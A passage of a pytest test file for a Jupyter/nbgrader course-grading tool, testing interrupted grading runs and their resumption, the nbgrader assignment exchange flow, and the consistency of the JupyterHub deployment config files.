        if line.startswith("[1/3]"):
            proc.send_signal(signal.SIGKILL)
            break
    assert proc.wait() == -signal.SIGKILL, "the run must be killed in the middle"
    done = {p.stem for p in (root / "grading" / ASSIGNMENT).glob("*.json")}
    assert 1 <= len(done) < 3
    stamps = {s: read_state(root, ASSIGNMENT, s)["graded_at"] for s in done}
    rest = grade(root, options=FAST, say=quiet)
    assert sorted(o.student for o in rest) == sorted(set(students) - done)
    assert {s: read_state(root, ASSIGNMENT, s)["graded_at"] for s in done} == stamps
    assert gradebook_scores(root) == {s: (hostile.FULL if c == "correct" else 0.0) for s, c in students.items()}


@needs_sandbox
@pytest.mark.slow
def test_ctrl_c_stops_with_one_line_and_the_rerun_resumes(tmp_path):
    """Ctrl-C (SIGINT to the whole process group, as a terminal sends it): one line, no traceback,
    the lock and the run's scratch folders gone; the next run grades everything."""
    root = make_course(tmp_path / "course")
    ctx = hostile.Context(course=root, victim="none")
    for student in ("ann", "ben"):
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_bytes(hostile.BY_NAME["correct"].make(ctx))
    cmd = [sys.executable, "-m", "coursetools.cli", "--course-dir", str(root), "grade", "--workers", "1",
           "--timeout", "30", "--cpu", "60"]
    # As from a terminal: SIGINT at its default, even where this test runs with it ignored (a shell
    # starts background jobs so, and Python then never turns SIGINT into KeyboardInterrupt).
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO,
                            start_new_session=True, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    for line in proc.stdout:
        if line.startswith("canary:"):
            os.killpg(proc.pid, signal.SIGINT)
            break
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130
    assert err == "stopped; run again to resume\n"
    assert not list((root / "grading").rglob("*.json"))
    outcomes = grade(root, options=FAST, say=quiet)  # the lock is free
    assert sorted((o.student, o.score) for o in outcomes) == [("ann", hostile.FULL), ("ben", hostile.FULL)]


# ----------------------------------------------------------------------------------------------
# nbgrader's exchange on one machine: release, fetch, submit, collect -- then our grading.

def exchange_step(step: str, *, exchange: Path, course_id: str, home: Path, student: str | None = None) -> None:
    """One of nbgrader's exchange steps, as ``nbgrader <step>`` runs it (in process: faster)."""
    from nbgrader.auth import Authenticator
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange import ExchangeFactory
    from traitlets.config import Config

    c = Config()
    c.Exchange.root = str(exchange)
    c.Exchange.assignment_dir = str(home)
    c.CourseDirectory.root = str(home)
    c.CourseDirectory.course_id = course_id
    c.CourseDirectory.assignment_id = ASSIGNMENT
    if student:
        c.CourseDirectory.student_id = student
    factory = ExchangeFactory(config=c)
    action = getattr(factory, step)(coursedir=CourseDirectory(config=c), authenticator=Authenticator(config=c), config=c)
    action.start()


@needs_sandbox
@pytest.mark.slow
def test_exchange_flow_on_one_machine(tmp_path):
    """release_assignment -> fetch_assignment -> submit -> collect, then our grade and export."""
    from coursetools.layout import chdir
    from coursetools.nbapi import api
    from coursetools.release import generate

    course = make_course(tmp_path / "course")
    exchange = tmp_path / "exchange"
    exchange.mkdir()
    exchange.chmod(0o777)
    generate([ASSIGNMENT], course_root=course)
    instructor = api(course, Exchange__root=str(exchange))
    course_id = instructor.coursedir.course_id
    with chdir(course):
        assert instructor.release_assignment(ASSIGNMENT)["success"]
    answers = {"alice": hostile.correct_notebook(), "bob": hostile.blank_notebook()}
    for student, nb in answers.items():
        home = tmp_path / student
        home.mkdir()
        exchange_step("FetchAssignment", exchange=exchange, course_id=course_id, home=home)
        fetched = home / ASSIGNMENT / NOTEBOOK
        assert fetched.exists()
        nbformat.write(nb, fetched)  # the student's work
        with chdir(home):
            exchange_step("Submit", exchange=exchange, course_id=course_id, home=home, student=student)
    with chdir(course):
        assert instructor.collect(ASSIGNMENT)["success"]
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["alice", "bob"]
    outcomes = {o.student: o.score for o in grade(course, options=FAST, say=quiet)}
    assert outcomes == {"alice": hostile.FULL, "bob": 0.0}
    rows = {r["student_id"]: r for r in csv.DictReader(open(export(course, say=quiet)))}
    assert rows["alice"]["score"] == "10" and rows["alice"]["timestamp"]


# ----------------------------------------------------------------------------------------------
# JupyterHub deployment files: they load, and agree with the course's config.

def _load_config_file(path: Path):
    from traitlets.config import Config

    c = Config()
    namespace = {"c": c, "get_config": lambda: c, "__file__": str(path)}
    exec(compile(path.read_text(), str(path), "exec"), namespace)
    return c


def test_jupyterhub_deployment_files_are_consistent():
    deploy = REPO / "deploy" / "jupyterhub"
    course = _load_config_file(REPO / "nbgrader_config.py")
    students = _load_config_file(deploy / "nbgrader_config_global.py")
    grader = _load_config_file(deploy / "nbgrader_config_grader.py")
    hub = _load_config_file(deploy / "jupyterhub_config.py")
    course_id = course.CourseDirectory.course_id
    assert students.CourseDirectory.course_id == grader.CourseDirectory.course_id == course_id
    assert students.Exchange.root == grader.Exchange.root
    service_names = [s["name"] for s in hub.JupyterHub.services]
    assert course_id in service_names
    groups = hub.JupyterHub.load_groups
    assert f"formgrade-{course_id}" in groups and f"nbgrader-{course_id}" in groups
